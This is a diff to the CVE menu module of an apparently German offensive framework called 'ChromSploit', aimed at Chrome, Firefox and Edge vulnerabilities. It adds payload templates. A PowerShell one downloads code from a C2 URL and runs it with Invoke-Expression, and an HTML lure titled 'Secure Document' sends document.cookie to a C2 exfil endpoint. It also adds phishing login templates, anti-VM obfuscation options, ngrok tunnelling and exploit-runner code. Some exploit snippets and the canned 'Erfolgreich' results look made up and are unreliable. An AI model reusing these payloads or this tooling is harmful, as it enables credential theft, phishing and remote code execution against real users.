@@ -9,9 +9,12 @@ Für Bildungs- und autorisierte Penetrationstests
 import os
 import sys
 import time
-import json
 import subprocess
-from typing import Optional, Dict, Any, List
+import functools
+import itertools
+import threading
+from concurrent.futures import ThreadPoolExecutor
+from typing import Optional, Dict, Any, List, Tuple, Callable
 
 from core.colors import Colors
 from core.menu import Menu
@@ -19,14 +22,484 @@ from core.config import Config
 from core.enhanced_logger import get_logger
 from core.utils import Utils
 from core.path_utils import PathUtils
-from core.ngrok_manager import get_ngrok_manager
-from core.module_loader import get_module_loader
+from core import json_utils
+
+# Sekunden, für die eine ermittelte Tunnel-URL wiederverwendet wird
+TUNNEL_CACHE_TTL = 30.0
+
+# Vorgefertigte Statuspräfixe (Farbe + Markierung); der Text folgt in derselben Farbe
+_OK = f"{Colors.GREEN}[] "
+_INFO = f"{Colors.CYAN}[*] "
+_WARN = f"{Colors.YELLOW}[!] "
+_ERR = f"{Colors.RED}[!] "
+_STEP = f"{Colors.BLUE}[+] "
+
+# Antworten für Ja/Nein-Abfragen (Eingabe wird per casefold() normalisiert)
+_YES = frozenset(("", "j", "ja", "y", "yes"))
+_NO = frozenset(("n", "nein", "no"))
+
+# Sekunden, die das Menü auf einen Exploit-Lauf wartet, überschreibbar per 'exploit_timeout'
+EXPLOIT_TIMEOUT = 600
+
+# Einmal aufgelöste Exploit-Einstiegspunkte je CVE-ID (parameters -> result)
+_EXPLOIT_REGISTRY: Dict[str, Callable[[Dict[str, Any]], Dict[str, Any]]] = {}
+
+@functools.lru_cache(maxsize=1)
+def _local_ip() -> str:
+ """
+ Lokale IP-Adresse einmal pro Prozess ermitteln
+ (bei Netzwerkwechsel über _local_ip.cache_clear() zurücksetzen)
+ """
+ return Utils.get_ip_address()
+
+@functools.lru_cache(maxsize=1)
+def _simulate_progress_enabled() -> bool:
+ """
+ Schalter "simulate_progress" einmal pro Prozess aus der Konfiguration lesen
+ (Config() liest bei jeder Instanz die Konfigurationsdateien neu ein)
+ """
+ return bool(Config().get("simulate_progress", False))
+
+def _parse_port(value: str, default: int) -> int:
+ """
+ Port-Eingabe in eine gültige Portnummer umwandeln, sonst Standardport
+ """
+ try:
+ port = int(value)
+ except (TypeError, ValueError):
+ return default
+ return port if 1 <= port <= 65535 else default
+
+def _emit(*lines: str) -> None:
+ """
+ Mehrere Ausgabezeilen mit einem einzigen Schreibvorgang ausgeben
+ """
+ sys.stdout.write("\n".join(lines) + "\n")
+ sys.stdout.flush()
+
+# Payload-Vorlagen für _generate_payload (Platzhalter: c2_url, cve)
+_PS1_TEMPLATE = """
+# ChromSploit Framework v2.0 - PowerShell Payload
+# Generiert für {cve}
+$ErrorActionPreference = "SilentlyContinue"
+$url = "{c2_url}/callback"
+$wc = New-Object System.Net.WebClient
+$wc.Headers.Add("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
+$data = $wc.DownloadString($url)
+Invoke-Expression $data
+"""
+
+_HTML_TEMPLATE = """
+<!DOCTYPE html>
+<html>
+<head>
+ <title>Secure Document</title>
+ <meta name="referrer" content="no-referrer">
+</head>
+<body>
+ <h1>Secure Document</h1>
+ <p>Loading secure content...</p>
+ <script>
+ // ChromSploit Framework v2.0 - HTML Exploit
+ // Generiert für {cve}
+ fetch('{c2_url}/exfil', {{
+ method: 'POST',
+ headers: {{
+ 'Content-Type': 'application/json'
+ }},
+ body: JSON.stringify({{
+ 'data': document.cookie,
+ 'url': window.location.href
+ }})
+ }});
+ </script>
+</body>
+</html>
+"""
+
+# Standard-Exploit-JavaScript für _deploy_phishing (Platzhalter: cve_upper, callback_url, cve)
+_EXPLOIT_JS_TEMPLATE = """
+ function runExploit() {{
+ console.log('[{cve_upper}] Exploit triggered');
+ // Exploit code would be injected here
+ fetch('{callback_url}/exploit-trigger', {{
+ method: 'POST',
+ headers: {{'Content-Type': 'application/json'}},
+ body: JSON.stringify({{
+ exploit: '{cve}',
+ timestamp: new Date().toISOString(),
+ userAgent: navigator.userAgent
+ }})
+ }});
+ }}
+"""
+
+# Auswahllisten der CVE-Menüs
+_BROWSERS = {
+ "1": "Chrome",
+ "2": "Firefox",
+ "3": "Edge",
+ "4": "Safari"
+}
+
+_OS_CHOICES = {
+ "1": "Windows 10/11",
+ "2": "Linux",
+ "3": "macOS"
+}
+
+_PAYLOAD_TYPES = {
+ "1": "PowerShell",
+ "2": "EXE",
+ "3": "DLL",
+ "4": "Python",
+ "5": "JavaScript"
+}
+
+_OBFUSCATION_LEVELS = {
+ "1": "Niedrig - Grundlegende Obfuskierung",
+ "2": "Mittel - Erweiterte Obfuskierung",
+ "3": "Hoch - Vollständige Obfuskierung mit Anti-VM"
+}
+
+_C2_FRAMEWORKS = {
+ "1": "Sliver",
+ "2": "Metasploit",
+ "3": "Custom HTTP C2",
+ "4": "Keines"
+}
+
+# Payload-Generierung: Auswahl -> (Name, Dateiendung)
+_PAYLOAD_FORMATS = {
+ "1": ("PowerShell One-Liner", "ps1"),
+ "2": ("Ausführbare Datei (EXE)", "exe"),
+ "3": ("DLL-Injektion", "dll"),
+ "4": ("Python-Script", "py"),
+ "5": ("JavaScript-Payload", "js"),
+ "6": ("WebAssembly-Modul", "wasm"),
+ "7": ("HTML-Exploit-Seite", "html")
+}
+
+_PAYLOAD_C2_FRAMEWORKS = {
+ "1": "Sliver",
+ "2": "Metasploit",
+ "3": "Custom HTTP C2"
+}
+
+# C2-Integration: Auswahl -> (Name, Beschreibung)
+_C2_INTEGRATIONS = {
+ "1": ("Sliver C2", "Leistungsstarkes C2-Framework mit vielen Features"),
+ "2": ("Metasploit Framework", "Klassisches Penetration-Testing-Framework"),
+ "3": ("Custom HTTP C2", "Einfacher HTTP-basierter C2-Server"),
+ "4": ("Ngrok Tunnel", "Einfache Tunneling-Lösung für externe Erreichbarkeit")
+}
+
+_C2_PAYLOAD_TYPES = {
+ "1": "PowerShell",
+ "2": "EXE",
+ "3": "DLL",
+ "4": "Shellcode"
+}
+
+# Exploit-Typ -> (Bezeichnung, Dateiendung)
+_EXPLOIT_TYPES = {
+ "1": ("PowerShell-Script", "ps1"),
+ "2": ("Ausführbare Datei", "exe"),
+ "3": ("Python-Script", "py"),
+ "4": ("JavaScript-Code", "js"),
+ "5": ("HTML-Exploit", "html"),
+ "6": ("C/C++-Quellcode", "c")
+}
+
+# Phishing-Template -> (Bezeichnung, Template-Schlüssel)
+_PHISHING_TEMPLATES = {
+ "1": ("Google Login", "google"),
+ "2": ("Microsoft Login", "microsoft"),
+ "3": ("Facebook Login", "facebook"),
+ "4": ("Generic Portal", "generic"),
+ "5": ("Document Viewer", "document")
+}
+
+# Exportformat -> (Bezeichnung, Dateiendung)
+_EXPORT_FORMATS = {
+ "1": ("ZIP-Archiv", "zip"),
+ "2": ("TAR-Archiv", "tar.gz"),
+ "3": ("Ausführbares Installer-Script", "sh"),
+ "4": ("Docker-Container", "tar")
+}
+
+_EXPORT_COMPONENTS = {
+ "1": "Exploit-Code",
+ "2": "Payloads",
+ "3": "C2-Konfiguration",
+ "4": "Dokumentation",
+ "5": "Alle Komponenten"
+}
+
+# Exploit-Dokumentation je CVE-ID für _show_documentation
+_CVE_DOCS = {
+ "cve_2025_4664": """
+Chrome Data Leak (CVE-2025-4664)
+================================
+
+Beschreibung:
+------------
+Diese Schwachstelle betrifft den Link-Header-Parser in Chrome und ermöglicht es einem Angreifer, 
+Cross-Origin-Daten über den Referer-Header zu exfiltrieren. Die Schwachstelle liegt in der 
+fehlerhaften Implementierung der referrerpolicy-Direktive in Link-Headern.
+
+Technische Details:
+-----------------
+Die Schwachstelle befindet sich in der Datei components/link_header_parser/link_header_parser.cc, 
+wo die referrerpolicy-Direktive nicht korrekt validiert wird. Wenn ein Link-Header mit 
+referrerpolicy=unsafe-url gesendet wird, wird diese Policy unabhängig von der Dokumentrichtlinie 
+angewendet, was zur Offenlegung sensibler URLs führen kann.
+
+Exploit-Mechanismus:
+------------------
+1. Der Angreifer sendet eine HTML-Seite mit einem <img>-Tag, das auf eine Ressource des Angreifers verweist
+2. Der Server antwortet mit einem Link-Header, der auf eine sensible URL verweist und referrerpolicy=unsafe-url enthält
+3. Chrome führt eine Preconnect-Anfrage durch und sendet dabei die vollständige URL als Referer
+4. Der Angreifer kann die sensiblen Daten aus dem Referer-Header extrahieren
+
+Payload-Beispiel:
+---------------
+```html
+<!DOCTYPE html>
+<html>
+<head>
+ <title>CVE-2025-4664 Exploit</title>
+</head>
+<body>
+ <img src="https://attacker.com/pixel.png">
+</body>
+</html>
+```
+
+Server-Antwort:
+```
+HTTP/1.1 200 OK
+Content-Type: image/png
+Link: <https://victim.com/oauth?token=SECRET>; rel=preconnect; referrerpolicy=unsafe-url
+```
+
+Betroffene Versionen:
+-------------------
+- Chrome < 135.0.7103.112
+- Chromium-basierte Browser mit ähnlichen Versionen
+
+Gegenmaßnahmen:
+-------------
+- Aktualisieren Sie Chrome auf Version 135.0.7103.112 oder höher
+- Verwenden Sie eine Content-Security-Policy mit referrer-Direktiven
+- Implementieren Sie CSRF-Tokens für sensible Operationen
+""",
+ "cve_2025_2783": """
+Chrome Mojo Sandbox Escape (CVE-2025-2783)
+=========================================
+
+Beschreibung:
+------------
+Diese Schwachstelle betrifft das Mojo IPC-System in Chrome und ermöglicht es einem Angreifer, 
+aus der Sandbox auszubrechen und Befehle mit erhöhten Rechten auszuführen. Die Schwachstelle 
+liegt in der fehlerhaften Validierung von Mojo-Nachrichten im NodeController.
+
+Technische Details:
+-----------------
+Die Schwachstelle befindet sich in der Implementierung des NodeController in Chrome, der für die 
+Verwaltung von Mojo-Verbindungen zwischen Prozessen zuständig ist. Durch das Senden einer speziell 
+gestalteten Mojo-Nachricht mit einem ungültigen Header-Typ (0xBADCOFFEE) kann ein Angreifer eine 
+Typverwirrung auslösen, die zur Umgehung der Handle-Validierung führt.
+
+Exploit-Mechanismus:
+------------------
+1. Der Angreifer kompromittiert zunächst den Renderer-Prozess (z.B. durch eine separate RCE-Schwachstelle)
+2. Der Angreifer sendet eine manipulierte Mojo-Nachricht an den NodeController
+3. Die Nachricht enthält einen ungültigen Header-Typ, der die Validierung umgeht
+4. Der NodeController verarbeitet die Nachricht in einem privilegierten Kontext
+5. Der Angreifer kann Handles duplizieren und auf privilegierte Ressourcen zugreifen
+6. Post-Exploitation-Befehle können mit erhöhten Rechten ausgeführt werden
+
+Payload-Beispiel:
+---------------
+```cpp
+// Exploit-Code-Snippet
+mojo::Message message;
+message.set_interface_name("mojo::core::NodeController");
+message.set_header({
+ .version = 0x41, 
+ .type = 0xBADCOFFEE, // Ungültiger Nachrichtentyp
+ .flags = MOJO_MESSAGE_FLAG_HAS_CONTEXT
+});
+```
+
+Betroffene Versionen:
+-------------------
+- Chrome < 135.0.7103.112
+- Chromium-basierte Browser mit ähnlichen Versionen
+
+Gegenmaßnahmen:
+-------------
+- Aktualisieren Sie Chrome auf Version 135.0.7103.112 oder höher
+- Aktivieren Sie Site Isolation und andere Sicherheitsfeatures in Chrome
+- Verwenden Sie einen Virenscanner mit Browser-Exploit-Erkennung
+""",
+ "cve_2025_2857": """
+Firefox Sandbox Escape (CVE-2025-2857)
+=====================================
+
+Beschreibung:
+------------
+Diese Schwachstelle betrifft das IPDL-System (Inter-Process Communication Protocol Definition Language) 
+in Firefox und ermöglicht es einem Angreifer, aus der Sandbox auszubrechen und Prozesse mit 
+PROCESS_ALL_ACCESS-Rechten zu manipulieren. Die Schwachstelle liegt in der fehlerhaften Validierung 
+von Prozess-Handles.
+
+Technische Details:
+-----------------
+Die Schwachstelle befindet sich in der Implementierung des IPDL-Systems in Firefox, das für die 
+Kommunikation zwischen Prozessen zuständig ist. Wenn ein kompromittierter Content-Prozess sein 
+eigenes Handle über DuplicateHandle() sendet, interpretiert der übergeordnete Prozess es fälschlicherweise 
+als einen eingeschränkten Handle-Typ, was zur Umgehung der Sicherheitsvalidierung führt.
+
+Exploit-Mechanismus:
+------------------
+1. Der Angreifer kompromittiert zunächst den Content-Prozess (z.B. durch eine separate RCE-Schwachstelle)
+2. Der Angreifer sendet das eigene Prozess-Handle über den IPDL-Kanal
+3. Der übergeordnete Prozess interpretiert das Handle falsch und gewährt PROCESS_ALL_ACCESS-Rechte
+4. Der Angreifer kann nun auf privilegierte Ressourcen zugreifen und Befehle mit erhöhten Rechten ausführen
+
+Payload-Beispiel:
+---------------
+```rust
+// Exploit-Code-Snippet
+let malicious_handle = unsafe { GetCurrentProcess() };
+ipc_channel.send(malicious_handle);
+
+// Fehlerhafte Validierung im übergeordneten Prozess
+fn on_ipc_message(handle: RawHandle) {
+ // Fehlende SEHOP-Validierung
+ let target_process = OpenProcess(PROCESS_ALL_ACCESS, handle);
+}
+```
+
+Betroffene Versionen:
+-------------------
+- Firefox < 135.0.3
+- Firefox ESR < 128.15.0
+
+Gegenmaßnahmen:
+-------------
+- Aktualisieren Sie Firefox auf Version 135.0.3 oder höher
+- Aktivieren Sie die Content-Sandbox und andere Sicherheitsfeatures in Firefox
+- Verwenden Sie einen Virenscanner mit Browser-Exploit-Erkennung
+""",
+ "cve_2025_30397": """
+Edge WebAssembly JIT Escape (CVE-2025-30397)
+==========================================
+
+Beschreibung:
+------------
+Diese Schwachstelle betrifft den WebAssembly-JIT-Compiler in Microsoft Edge und ermöglicht es einem 
+Angreifer, Bounds-Checks zu umgehen und Heap-Corruption zu verursachen. Die Schwachstelle liegt in 
+der fehlerhaften Optimierung von WebAssembly-Code durch den TurboFan-Compiler.
+
+Technische Details:
+-----------------
+Die Schwachstelle befindet sich im TurboFan-Compiler von V8, der in Microsoft Edge verwendet wird. 
+Bei der Optimierung von WebAssembly-Code werden Bounds-Checks für ArrayBuffer-Zugriffe fälschlicherweise 
+entfernt, wenn WebAssembly.Table-Wachstumsoperationen verwendet werden. Dies ermöglicht Out-of-Bounds-Zugriffe 
+auf angrenzende V8-Heap-Strukturen.
+
+Exploit-Mechanismus:
+------------------
+1. Der Angreifer erstellt ein WebAssembly-Modul mit einer Funktion, die eine WebAssembly.Table wachsen lässt
+2. Der TurboFan-Compiler optimiert den Code und entfernt fälschlicherweise Bounds-Checks
+3. Der Angreifer kann Out-of-Bounds-Zugriffe auf den V8-Heap durchführen
+4. Durch Manipulation von WasmInstanceObject kann beliebiger RWX-Speicher alloziert werden
+5. Ein ROP-Chain kann erstellt werden, um SMEP/SMAP zu umgehen und Code mit erhöhten Rechten auszuführen
+
+Payload-Beispiel:
+---------------
+```wat
+(module
+ (func $grow (param $delta i32)
+ (call $grow_table (i32.const 0) (local.get $delta))
+ )
+)
+```
+
+Betroffene Versionen:
+-------------------
+- Microsoft Edge < 135.0.1118.62
+- Chromium-basierte Browser mit ähnlichen V8-Versionen
+
+Gegenmaßnahmen:
+-------------
+- Aktualisieren Sie Microsoft Edge auf Version 135.0.1118.62 oder höher
+- Aktivieren Sie Site Isolation und andere Sicherheitsfeatures in Edge
+- Deaktivieren Sie WebAssembly in Unternehmensumgebungen, wenn möglich
+- Verwenden Sie einen Virenscanner mit Browser-Exploit-Erkennung
+"""
+}
+
+# Simulationsergebnisse je CVE-ID für _test_exploit: (Titel, ((Schritt, Ergebnis), ...))
+_CVE_SIM_RESULTS = {
+ "cve_2025_4664": ("Chrome Data Leak", (
+ ("Link-Header-Manipulation", "Erfolgreich"),
+ ("Referrer-Policy-Bypass", "Erfolgreich"),
+ ("Datenexfiltration", "3 URLs exfiltriert"),
+ ("WebSocket-Verbindung", "Erfolgreich"),
+ )),
+ "cve_2025_2783": ("Chrome Mojo Sandbox Escape", (
+ ("Mojo IPC Message Fuzzing", "Erfolgreich"),
+ ("NodeController-Manipulation", "Erfolgreich"),
+ ("Handle Validation Bypass", "Erfolgreich"),
+ ("Sandbox Escape", "Erfolgreich"),
+ ("Command Execution", "Erfolgreich (calc.exe gestartet)"),
+ )),
+ "cve_2025_2857": ("Firefox Sandbox Escape", (
+ ("IPDL Handle Confusion", "Erfolgreich"),
+ ("DuplicateHandle() Abuse", "Erfolgreich"),
+ ("PROCESS_ALL_ACCESS", "Erfolgreich"),
+ ("Privilege Escalation", "Erfolgreich"),
+ ("Command Execution", "Erfolgreich (cmd.exe gestartet)"),
+ )),
+ "cve_2025_30397": ("Edge WebAssembly JIT Escape", (
+ ("TurboFan Compiler Bypass", "Erfolgreich"),
+ ("WebAssembly.Table Growth", "Erfolgreich"),
+ ("ArrayBuffer OOB", "Erfolgreich"),
+ ("V8 Heap Corruption", "Erfolgreich"),
+ ("ROP Chain Execution", "Erfolgreich"),
+ ("Command Execution", "Erfolgreich (powershell.exe gestartet)"),
+ )),
+}
 
 class CVEMenu(Menu):
  """
  Menü für CVE-spezifische Exploits
  """
  
+ # Informationstexte je CVE-ID
+ _CVE_INFO = {
+ "cve_2025_4664": (
+ "Chrome Data Leak (CVE-2025-4664): Ausnutzung einer Schwachstelle im Link-Header-Parser von Chrome, "
+ "die es ermöglicht, Cross-Origin-Daten über den Referer-Header zu exfiltrieren."
+ ),
+ "cve_2025_2783": (
+ "Chrome Mojo Sandbox Escape (CVE-2025-2783): Ausnutzung einer Schwachstelle im Mojo IPC-System von Chrome, "
+ "die es ermöglicht, aus der Sandbox auszubrechen und Befehle mit erhöhten Rechten auszuführen."
+ ),
+ "cve_2025_2857": (
+ "Firefox Sandbox Escape (CVE-2025-2857): Ausnutzung einer Handle-Confusion-Schwachstelle im IPDL-System von Firefox, "
+ "die es ermöglicht, aus der Sandbox auszubrechen und Prozesse mit PROCESS_ALL_ACCESS-Rechten zu manipulieren."
+ ),
+ "cve_2025_30397": (
+ "Edge WebAssembly JIT Escape (CVE-2025-30397): Ausnutzung einer Schwachstelle im WebAssembly-JIT-Compiler von Edge, "
+ "die es ermöglicht, Bounds-Checks zu umgehen und Heap-Corruption zu verursachen."
+ )
+ }
+ 
  def __init__(self, cve_id: str, description: str, parent=None):
  """
  Initialisiert das CVE-Menü
@@ -40,11 +513,42 @@ class CVEMenu(Menu):
  
  self.cve_id = cve_id
  self.description = description
+ self._cve_upper = cve_id.upper()
+ # Klassenname im Exploit-Modul, z.B. CVE2025_4664_Exploit
+ parts = cve_id.split('_')
+ self._cve_class_name = f"CVE{parts[1]}_{parts[2]}_Exploit" if len(parts) >= 3 else None
  self.exploit_path = os.path.join(PathUtils.get_exploits_dir(), cve_id)
+ # Ausgabeverzeichnis dieser CVE; artifacts/ wird erst beim ersten Schreiben angelegt
+ self._output_dir = os.path.join(PathUtils.get_output_dir(), cve_id)
+ PathUtils.ensure_dir_exists(self._output_dir)
+ self._artifacts_dir = os.path.join(self._output_dir, "artifacts")
+ self._output_prefix = self._output_dir + os.sep
+ self._artifacts_dir_ready = False
+ 
+ # Standardkonfiguration für den Quick-Exploit (hängt nur von der CVE-ID ab)
+ self._default_browser = "chrome" if "chrome" in cve_id else "firefox" if "firefox" in cve_id else "edge"
+ self._base_config = {
+ "target_browser": self._default_browser,
+ "target_os": "windows",
+ "payload_type": "powershell",
+ "obfuscation_level": 2,
+ "c2_framework": "sliver",
+ "listen_port": 8443,
+ "use_ngrok": True
+ }
  
  # Initialize logger
  self.logger = get_logger()
  
+ # Beim ersten Gebrauch geladen und danach wiederverwendet
+ self._ngrok_mgr = None
+ self._exploit_module = None
+ # Simulierte Fortschrittspausen nur, wenn in der Konfiguration aktiviert
+ self._simulate_progress = _simulate_progress_enabled()
+ 
+ # protocol -> (url, expires_at)
+ self._tunnel_cache: Dict[str, Tuple[str, float]] = {}
+ 
  # Initialize new modules
  self.browser_detector = get_browser_detector()
  self.exploit_monitor = get_exploit_monitor()
@@ -61,7 +565,7 @@ class CVEMenu(Menu):
  self.logger.debug("AI Orchestrator not available")
  
  # Informationstext basierend auf der CVE-ID setzen
- self._set_cve_info()
+ self.set_info_text(self._CVE_INFO.get(cve_id, ""))
  
  # Menüeinträge hinzufügen
  self.add_item("Quick Exploit (Auto-Konfiguration)", self._quick_exploit, Colors.BRIGHT_GREEN)
@@ -79,30 +583,35 @@ class CVEMenu(Menu):
  self.add_item("Exploit-Dokumentation anzeigen", self._show_documentation, Colors.PURPLE)
  self.add_item("Zurück zum Hauptmenü", lambda: "exit", Colors.BRIGHT_RED)
  
- def _set_cve_info(self) -> None:
+ def _progress_pause(self, seconds: float) -> None:
  """
- Setzt den Informationstext basierend auf der CVE-ID
+ Pausiert für die Fortschrittsanzeige, sofern simulate_progress aktiv ist
+ 
+ Args:
+ seconds: Dauer der Pause in Sekunden
  """
- if self.cve_id == "cve_2025_4664":
- self.set_info_text(
- "Chrome Data Leak (CVE-2025-4664): Ausnutzung einer Schwachstelle im Link-Header-Parser von Chrome, "
- "die es ermöglicht, Cross-Origin-Daten über den Referer-Header zu exfiltrieren."
- )
- elif self.cve_id == "cve_2025_2783":
- self.set_info_text(
- "Chrome Mojo Sandbox Escape (CVE-2025-2783): Ausnutzung einer Schwachstelle im Mojo IPC-System von Chrome, "
- "die es ermöglicht, aus der Sandbox auszubrechen und Befehle mit erhöhten Rechten auszuführen."
- )
- elif self.cve_id == "cve_2025_2857":
- self.set_info_text(
- "Firefox Sandbox Escape (CVE-2025-2857): Ausnutzung einer Handle-Confusion-Schwachstelle im IPDL-System von Firefox, "
- "die es ermöglicht, aus der Sandbox auszubrechen und Prozesse mit PROCESS_ALL_ACCESS-Rechten zu manipulieren."
- )
- elif self.cve_id == "cve_2025_30397":
- self.set_info_text(
- "Edge WebAssembly JIT Escape (CVE-2025-30397): Ausnutzung einer Schwachstelle im WebAssembly-JIT-Compiler von Edge, "
- "die es ermöglicht, Bounds-Checks zu umgehen und Heap-Corruption zu verursachen."
- )
+ if self._simulate_progress:
+ time.sleep(seconds)
+ 
+ def _run_steps(self, steps: List[Tuple[str, float]]) -> None:
+ """
+ Zeigt Fortschrittsschritte an; ohne simulate_progress in einem einzigen Schreibvorgang
+ 
+ Args:
+ steps: Liste aus (Schrittname, Pausendauer in Sekunden)
+ """
+ if self._simulate_progress:
+ for step, duration in steps:
+ print(f"{_STEP}{step}...{Colors.RESET}")
+ time.sleep(duration)
+ print(f"{_OK}{step} abgeschlossen{Colors.RESET}")
+ return
+ 
+ lines = []
+ for step, _ in steps:
+ lines.append(f"{_STEP}{step}...{Colors.RESET}")
+ lines.append(f"{_OK}{step} abgeschlossen{Colors.RESET}")
+ _emit(*lines)
  
  def _get_ngrok_url(self, protocol: str = "https") -> str:
  """
@@ -114,45 +623,107 @@ class CVEMenu(Menu):
  Returns:
  str: The ngrok URL or a placeholder if none found
  """
+ cached = self._tunnel_cache.get(protocol)
+ if cached and cached[1] > time.monotonic():
+ return cached[0]
+ 
  try:
- ngrok_manager = get_ngrok_manager()
- tunnels = ngrok_manager.get_active_tunnels()
+ if self._ngrok_mgr is None:
+ from core.ngrok_manager import get_ngrok_manager
+ self._ngrok_mgr = get_ngrok_manager()
+ tunnels = self._ngrok_mgr.get_active_tunnels()
  
- for tunnel in tunnels:
- if tunnel.public_url.startswith(protocol):
- return tunnel.public_url
+ url = next((t.public_url for t in tunnels if t.public_url.startswith(protocol)), None)
  
  # If no specific protocol found, return the first tunnel
- if tunnels:
- return tunnels[0].public_url
+ if url is None and tunnels:
+ url = tunnels[0].public_url
+ 
+ if url:
+ self._tunnel_cache[protocol] = (url, time.monotonic() + TUNNEL_CACHE_TTL)
+ return url
  
  except Exception as e:
- print(f"{Colors.YELLOW}[!] Konnte ngrok-Status nicht abrufen: {str(e)}{Colors.RESET}")
+ print(f"{_WARN}Konnte ngrok-Status nicht abrufen: {str(e)}{Colors.RESET}")
  
  # Fallback to manual input
  manual_url = input(f"\n{Colors.BRIGHT_CYAN}Bitte geben Sie die ngrok-URL ein: {Colors.RESET}")
  return manual_url if manual_url else "https://placeholder.ngrok.io"
  
- def _execute_cve_exploit(self, parameters: Dict[str, Any]) -> Dict[str, Any]:
+ def _payload_path(self, extension: str, name: str = "payload") -> str:
  """
- Execute the actual CVE exploit
+ Pfad einer Payload-Datei im Ausgabeverzeichnis dieser CVE
  
  Args:
- parameters: Exploit parameters
+ extension (str): Dateiendung ohne Punkt
+ name (str): Dateiname ohne Endung
  
  Returns:
- Dict with execution results
+ str: Vollständiger Dateipfad
  """
+ return f"{self._output_prefix}{name}.{extension}"
+ 
+ def _load_exploit_module(self):
+ """
+ Load the exploit module for this CVE once and reuse it afterwards
+ 
+ Returns:
+ The exploit module, or None if it cannot be imported
+ """
+ if self._exploit_module is None:
  try:
- # Load the exploit module directly
- try:
- exploit_module = __import__(f"exploits.{self.cve_id}", fromlist=[self.cve_id])
+ self._exploit_module = __import__(f"exploits.{self.cve_id}", fromlist=[self.cve_id])
  except ImportError:
  # Try with underscores instead of dashes
  cve_module_name = self.cve_id.replace('-', '_')
  try:
- exploit_module = __import__(f"exploits.{cve_module_name}", fromlist=[cve_module_name])
+ self._exploit_module = __import__(f"exploits.{cve_module_name}", fromlist=[cve_module_name])
  except ImportError:
+ return None
+ return self._exploit_module
+ 
+ def _resolve_exploit(self, exploit_module) -> Optional[Callable[[Dict[str, Any]], Dict[str, Any]]]:
+ """
+ Resolve the entry point of an exploit module once
+ 
+ Args:
+ exploit_module: Loaded exploit module
+ 
+ Returns:
+ Callable taking the exploit parameters, or None if the module has no entry point
+ """
+ if hasattr(exploit_module, 'execute_exploit'):
+ return exploit_module.execute_exploit
+ 
+ exploit_class = getattr(exploit_module, self._cve_class_name, None) if self._cve_class_name else None
+ if exploit_class is None:
+ return None
+ 
+ def run(parameters: Dict[str, Any]) -> Dict[str, Any]:
+ exploit = exploit_class()
+ 
+ # Set parameters
+ if hasattr(exploit, 'set_parameter'):
+ for key, value in parameters.items():
+ exploit.set_parameter(key, value)
+ 
+ return exploit.execute(parameters.get('target_url'))
+ 
+ return run
+ 
+ def _execute_cve_exploit(self, parameters: Dict[str, Any]) -> Dict[str, Any]:
+ """
+ Execute the actual CVE exploit
+ 
+ Args:
+ parameters: Exploit parameters
+ 
+ Returns:
+ Dict with execution results
+ """
+ try:
+ runner = _EXPLOIT_REGISTRY.get(self.cve_id)
+ if runner is None and self._load_exploit_module() is None:
  return {
  'success': False,
  'error': f"Could not load exploit module for {self.cve_id}"
@@ -160,7 +731,7 @@ class CVEMenu(Menu):
  
  # Check if in simulation mode
  if parameters.get('simulation_mode', False):
- print(f"{Colors.YELLOW}[!] Simulation mode active - no actual exploitation{Colors.RESET}")
+ print(f"{_WARN}Simulation mode active - no actual exploitation{Colors.RESET}")
  return {
  'success': True,
  'cve_id': self.cve_id,
@@ -168,89 +739,127 @@ class CVEMenu(Menu):
  'message': 'Exploit would be executed in real mode'
  }
  
- # Execute the exploit
- if hasattr(exploit_module, 'execute_exploit'):
- result = exploit_module.execute_exploit(parameters)
- else:
- # Try to instantiate the exploit class and execute
- exploit_class_name = f"CVE{self.cve_id.split('_')[1]}_{self.cve_id.split('_')[2]}_Exploit"
- if hasattr(exploit_module, exploit_class_name):
- exploit_class = getattr(exploit_module, exploit_class_name)
- exploit = exploit_class()
+ if runner is None:
+ runner = self._resolve_exploit(self._exploit_module)
+ if runner is None:
+ return {
+ 'success': False,
+ 'error': f"No executable exploit found in module {self.cve_id}"
+ }
+ _EXPLOIT_REGISTRY[self.cve_id] = runner
  
- # Set parameters
- for key, value in parameters.items():
- if hasattr(exploit, 'set_parameter'):
- exploit.set_parameter(key, value)
+ # Execute the exploit in a daemon thread so a hanging module cannot block
+ # the menu or interpreter exit. Python threads cannot be killed, so an
+ # exploit that overruns the timeout keeps running in the background.
+ timeout = parameters.get('exploit_timeout', EXPLOIT_TIMEOUT)
+ outcome: Dict[str, Any] = {}
  
- # Execute
- result = exploit.execute(parameters.get('target_url'))
- else:
+ def run_exploit():
+ try:
+ outcome['result'] = runner(parameters)
+ except Exception as e:
+ outcome['error'] = e
+ 
+ worker = threading.Thread(target=run_exploit, name=f"exploit-{self.cve_id}", daemon=True)
+ worker.start()
+ worker.join(timeout)
+ 
+ if worker.is_alive():
+ print(f"{_WARN}Exploit did not finish within {timeout}s and is still running in the background "
+ f"(it cannot be stopped from the menu){Colors.RESET}")
  return {
  'success': False,
- 'error': f"No executable exploit found in module {self.cve_id}"
+ 'still_running': True,
+ 'error': f"Exploit timed out after {timeout}s and is still running in the background"
  }
  
- return result
+ if 'error' in outcome:
+ raise outcome['error']
+ 
+ return outcome['result']
  
  except Exception as e:
- print(f"{Colors.RED}[!] Exploit execution failed: {str(e)}{Colors.RESET}")
+ print(f"{_ERR}Exploit execution failed: {str(e)}{Colors.RESET}")
  return {
  'success': False,
  'error': str(e)
  }
  
+ @staticmethod
+ def _save_artifact(artifact_path: str, data: Any) -> str:
+ """
+ Schreibt ein einzelnes Artefakt als JSON
+ """
+ json_utils.dump(data, artifact_path, indent=True)
+ return artifact_path
+ 
+ def _save_artifacts(self, artifacts_dir: str, artifacts: Dict[str, Any]) -> List[str]:
+ """
+ Schreibt alle Artefakte parallel in das Artefakt-Verzeichnis
+ 
+ Args:
+ artifacts_dir: Zielverzeichnis
+ artifacts: Artefaktname -> JSON-serialisierbare Daten
+ 
+ Returns:
+ List[str]: Pfade der geschriebenen Dateien in Eingabereihenfolge
+ """
+ if not artifacts:
+ return []
+ paths = [os.path.join(artifacts_dir, name) for name in artifacts]
+ with ThreadPoolExecutor(max_workers=min(8, len(artifacts))) as executor:
+ return list(executor.map(self._save_artifact, paths, artifacts.values()))
+ 
  def _quick_exploit(self) -> None:
  """
  Führt einen schnellen Exploit mit automatischer Konfiguration durch
  """
  self._clear()
- self._draw_box(80, f"QUICK EXPLOIT - {self.cve_id.upper()}")
+ self._draw_box(80, f"QUICK EXPLOIT - {self._cve_upper}")
  
- print(f"\n{Colors.CYAN}[*] Starte automatische Konfiguration für {self.cve_id.upper()}...{Colors.RESET}")
